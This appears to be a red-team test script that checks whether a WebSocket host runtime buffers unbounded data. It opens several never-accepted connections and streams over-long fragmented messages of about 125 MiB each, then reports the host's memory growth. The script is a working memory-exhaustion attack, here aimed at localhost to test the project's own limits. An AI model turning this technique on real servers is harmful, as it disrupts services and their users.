"""T1c: the same unfinished-message hold on connections the guest NEVER accepts. Guest: probe
`ws-serve-hold` (accepts one stream, leaves its listener open). K more peers upgrade (they sit in
accept_backlog) and each sends 63 MiB + 62 MiB of an over-long fragmented message. Host RSS."""
import sys, time, subprocess
sys.path.insert(0, "/work/redteam")
from rt import *
from jm import free_port
K = int(sys.argv[1]) if len(sys.argv) > 1 else 4
port = free_port()
p = subprocess.Popen([TETHER, "run", f"{G}/probe.wasm", "--listen", "127.0.0.1:*", "--", "ws-serve-hold", f"127.0.0.1:{port}", "0"],
                     stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
out = drain_output(p)
try:
    for _ in range(50):
        try: first, _, _ = ws_connect(port); break
        except OSError: time.sleep(0.1)
    time.sleep(0.3); b = status(p.pid); print("baseline (one accepted stream)", b)
    mib = b"\x00" * (1 << 20); held = []
    for i in range(K):
        s, _, _ = ws_connect(port)
        s.settimeout(5)
        sent = 0
        try:
            s.sendall(frame(2, b"", fin=False))
            for _ in range(63): s.sendall(frame(0, mib, fin=False)); sent += 1
            s.sendall(frame(0, length=63 << 20, fin=False))
            for _ in range(62): s.sendall(mib); sent += 1
        except socket.timeout:
            print(f"peer {i}: send blocked after {sent} MiB (host stopped reading)")
        held.append(s)
    time.sleep(1); a = status(p.pid)
    print(f"{K} never-accepted peers: rss {a['rss_mib']} MiB (+{a['rss_mib']-b['rss_mib']} MiB, {(a['rss_mib']-b['rss_mib'])/K:.0f} MiB per peer)")
    for s in held: s.close()
    first.close()
finally:
    kill(p)
    print("guest:", b"".join(out)[-300:])
